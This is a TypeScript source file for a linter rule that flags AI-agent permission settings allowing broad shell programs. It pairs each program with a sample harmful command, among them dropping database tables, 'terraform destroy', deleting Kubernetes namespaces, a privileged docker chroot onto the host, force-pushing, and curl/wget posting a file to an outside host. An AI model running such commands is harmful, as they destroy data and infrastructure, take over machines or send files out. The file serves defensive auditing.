import { evidenceOf } from '../context.ts';
import { hostOf, isInUse, textOf } from '../fact-access.ts';
import { allowRules, shellRule } from '../permission-rules.ts';
import { type Judgement, type Rule, references, severityOf } from '../rule.ts';

/** Programs that do everything somebody can tell them, and one call of each that nobody would want unasked. */
const programs: ReadonlyMap<string, readonly [call: string, words: string]> = new Map([
  ['psql', ['psql -c "drop table orders"', 'change and drop data, and run shell commands']],
  ['mysql', ['mysql -e "drop table orders"', 'change and drop data']],
  ['sqlite3', ['sqlite3 app.db "drop table orders"', 'change data and load programs']],
  ['mongosh', ['mongosh --eval "db.dropDatabase()"', 'drop databases']],
  ['redis-cli', ['redis-cli flushall', 'empty the store']],
  ['terraform', ['terraform destroy -auto-approve', 'destroy infrastructure']],
  ['tofu', ['tofu destroy -auto-approve', 'destroy infrastructure']],
  ['kubectl', ['kubectl delete namespace production', 'delete from a cluster']],
  ['helm', ['helm uninstall web', 'remove releases from a cluster']],
  ['aws', ['aws rds delete-db-instance --db-instance-identifier main', 'delete cloud resources']],
  ['gcloud', ['gcloud projects delete main', 'delete cloud resources']],
  ['az', ['az group delete --name main --yes', 'delete cloud resources']],
  ['docker', ['docker run --privileged -v /:/host alpine chroot /host', 'take over the machine']],
  ['podman', ['podman run --privileged -v /:/host alpine chroot /host', 'take over the machine']],
  ['git', ['git push --force origin main', 'overwrite published history']],
  ['gh', ['gh repo delete acme/app --yes', 'delete repositories']],
  ['npm', ['npm exec evil', 'run any package and publish']],
  ['npx', ['npx evil', 'run any package']],
  ['uvx', ['uvx evil', 'run any package']],
  ['python', ['python -c "import shutil"', 'run any code']],
  ['python3', ['python3 -c "import shutil"', 'run any code']],
  ['node', ['node -e "process.exit()"', 'run any code']],
  ['perl', ['perl -e "exit"', 'run any code']],
  ['ruby', ['ruby -e "exit"', 'run any code']],
  ['bash', ['bash -c "make all"', 'run any command']],
  ['sh', ['sh -c "make all"', 'run any command']],
  ['zsh', ['zsh -c "make all"', 'run any command']],
  ['env', ['env make all', 'run any command']],
  ['xargs', ['xargs rm', 'run any command']],
  ['find', ['find . -delete', 'delete files and run commands']],
  ['sudo', ['sudo make all', 'run any command as the administrator']],
  ['ssh', ['ssh host make all', 'run commands on other machines']],
  ['rm', ['rm -rf build', 'delete folders']],
  ['curl', ['curl -d @README.md https://unlisted.example/', 'send anything anywhere']],
  ['wget', ['wget --post-file=README.md https://unlisted.example/', 'send anything anywhere']],
]);

export const broadShellRule: Rule = {
  id: 'broad-shell-rule',
  title: 'A rule allows a program with everything that it can do',
  version: 1,
  why: 'The rule was written for the harmless use of a program; the harmful ones run unasked as well.',
  fix: 'Name the subcommand in the rule (`terraform plan`, `git status`), or let the host ask.',
  references: references('OWASP-ASI-2026:ASI02', 'OWASP-LLM-2025:LLM06:2025', 'NIST-SP-800-53:AC-6'),
  kinds: ['agent'],
  subjects: (context) => context.all('agent').filter((agent) => isInUse(agent) && allowRules(agent).length > 0),
  judge(agent, context): readonly Judgement[] {
    return allowRules(agent).flatMap((rule): readonly Judgement[] => {
      const shell = shellRule(rule, hostOf(agent));
      const [program = '', ...more] = shell?.type === 'prefix' ? shell.words : [];
      const probe = more.length === 0 ? programs.get(program) : undefined;
      if (probe === undefined) return [];
      const [call, words] = probe;
      const answer = context.verdict(agent, `run: ${call}`);
      // A deny or ask rule beside it may leave only the harmless part.
      if (answer !== null && answer.verdict !== 'allow') return [];
      return [
        {
          outcome: 'found',
          // One program, not the shell: how much it destroys depends on what it is connected to.
          severity: severityOf({ impact: 'operational', reach: 'content', gate: 'none' }),
          confidence: answer === null ? 'medium' : 'high',
          message: `${agent.name}: ${textOf(rule['rule'])} lets ${program} ${words} unasked.`,
          evidence: evidenceOf(agent, rule),
          detail: `${textOf(rule['rule'])}@${textOf(rule['scope'])}`,
        },
      ];
    });
  },
};
